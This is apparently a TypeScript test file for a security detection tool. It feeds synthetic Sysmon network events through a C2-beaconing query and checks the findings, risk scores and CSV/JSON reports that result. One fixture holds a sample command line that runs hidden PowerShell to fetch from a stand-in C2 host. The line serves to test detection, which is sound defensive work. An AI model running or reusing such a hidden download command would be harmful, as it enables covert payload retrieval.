/**
 * The seed detection's real SPL, run by the engine, through the findings mapping, EID 1 enrichment, risk
 * ranking and the CSV/JSON reports: the contract between a detection's result rows and its findings.
 * Expected values are worked out by hand below (the per-hour counts are constant, so every standard
 * deviation is 0; see test/engine/seed-query.test.ts for the query's own arithmetic).
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { DetectionInfo } from '../../src/detections/types.js';
import { runSpl } from '../../src/engine/run-spl.js';
import { createEvent, type Event } from '../../src/events/event.js';
import { compileFindingMapper, enrichFindings, ProcessIndex, rankFindings } from '../../src/findings/index.js';
import { renderReportText } from '../../src/report/index.js';
import { seedQuery } from '../helpers/seed.js';

const BASE = Date.UTC(2024, 4, 1, 10, 0, 0) / 1000; // 2024-05-01 10:00:00 UTC
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CURL = 'C:\\Windows\\System32\\curl.exe';

function connections(image: string, ip: string, name: string, perHour: number[], ports: string[]): Event[] {
  const out: Event[] = [];
  let n = 0;
  perHour.forEach((count, hour) => {
    for (let k = 0; k < count; k++) {
      const e = createEvent();
      Object.assign(e, {
        index: 'wineventlog',
        sourcetype: 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational',
        EventCode: '3',
        host: 'WS01',
        Image: image,
        DestinationIp: ip,
        DestinationHostname: name,
        DestinationPort: ports[n++ % ports.length] as string,
        _time: BASE + hour * 3600 + k * 60,
      });
      out.push(e);
    }
  });
  return out;
}

const SEED: DetectionInfo = {
  id: '9389a3aa-0788-4369-89e4-fca958717bc6',
  name: 'C2 Beaconing To Acquired Server',
  techniques: ['T1583.004'],
  severity: 'medium',
  confidence: 'medium',
  riskScore: 40,
  guide: ['Review the process and its parent.'],
  response: ['Block the destination if unexplained.'],
  finding: {
    count: 'TotalConnections',
    evidence: ['HoursActive', { field: 'AvgPerHour', unit: 'count' }, 'ConsistencyRatio', 'RiskScore'],
    explain: '{TotalConnections:count} connections over {HoursActive} hours, consistency ratio {ConsistencyRatio:decimal}',
  },
};

describe('seed detection rows → findings → ranked report', async () => {
  // curl: 20 per hour for 3 hours = 60, ratio 0 → suspicious 1 + beacon 1 + (60 > 50) 1 = RiskScore 3.
  // powershell: 5 per hour for 3 hours = 15 → RiskScore 2. Ports alternate 443, 8443.
  const events = [
    ...connections(CURL, '203.0.113.60', 'cdn.c2.example', [20, 20, 20], ['443']),
    ...connections(PS, '203.0.113.10', 'beacon.c2.example', [5, 5, 5], ['443', '8443']),
  ];
  const { rows } = await runSpl(seedQuery(), [events]);
  const compiled = compileFindingMapper(SEED);
  if (!compiled.ok) throw new Error(JSON.stringify(compiled.problems));
  const index = new ProcessIndex();
  const eid1 = createEvent();
  Object.assign(eid1, {
    EventCode: '1',
    sourcetype: 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational',
    host: 'WS01',
    Image: PS,
    ProcessGuid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
    CommandLine: 'powershell.exe -NoProfile -WindowStyle Hidden -c "iwr http://beacon.c2.example/"',
    ParentImage: 'C:\\Windows\\System32\\svchost.exe',
    User: 'CORP\\alice',
    UtcTime: '2024-05-01 09:59:00.000',
  });
  index.add(eid1);
  const findings = enrichFindings(rows.map((r) => compiled.mapper.map(r)), index);
  const ranked = rankFindings(findings);

  it('maps each result row to a finding with typed evidence', () => {
    expect(rows).toHaveLength(2);
    const curl = findings.find((f) => f.process === CURL)!;
    expect(curl.count).toBe(60);
    expect(curl.ports).toEqual([443]);
    // FirstSeen/LastSeen are min/max of HourBucket: "2024-05-01 10:00:00" and "2024-05-01 12:00:00", UTC.
    expect([curl.firstSeen, curl.lastSeen]).toEqual([BASE, BASE + 7200]);
    expect(curl.evidence.map((e) => [e.name, e.value])).toEqual([
      ['HoursActive', 3],
      ['AvgPerHour', 20],
      ['ConsistencyRatio', 0],
      ['RiskScore', 3],
    ]);
    expect(curl.explanation).toBe('60 connections over 3 hours, consistency ratio 0');
    const ps = findings.find((f) => f.process === PS)!;
    expect(ps.ports).toEqual([443, 8443]);
    expect(ps.count).toBe(15);
  });

  it('attaches the EID 1 command line to the powershell finding only', () => {
    const ps = findings.find((f) => f.process === PS)!;
    expect(ps.context).toMatchObject({ match: 'host-image', parentImage: 'C:\\Windows\\System32\\svchost.exe' });
    expect(ps.user).toBe('CORP\\alice');
    expect(findings.find((f) => f.process === CURL)!.context).toBeUndefined();
  });

  it('combines both into one risk object under the registered domain', () => {
    expect(ranked.objects).toHaveLength(1);
    const o = ranked.objects[0]!;
    expect([o.host, o.destination]).toEqual(['WS01', 'c2.example']);
    // One detection, two findings of 40: 40 + 0.5·40 = 60; undiminished 80.
    expect([o.score, o.rawScore]).toEqual([60, 80]);
    expect(o.contributions.map((c) => [c.findings, c.score])).toEqual([[2, 60]]);
  });

  it('renders CSV and JSON with the same numbers', () => {
    const csv = parseCsv(renderReportText(ranked, 'csv'), { columns: true }) as Record<string, string>[];
    expect(csv.map((r) => r['object_score'])).toEqual(['60', '60']);
    const ps = csv.find((r) => r['process'] === PS)!;
    expect(ps['command_line']).toContain('-WindowStyle Hidden');
    expect(ps['ports']).toBe('443\n8443');
    const json = JSON.parse(renderReportText(ranked, 'json')) as { riskObjects: { findings: { count: number }[] }[] };
    expect(json.riskObjects[0]!.findings.map((f) => f.count).sort((a, b) => a - b)).toEqual([15, 60]);
  });
});
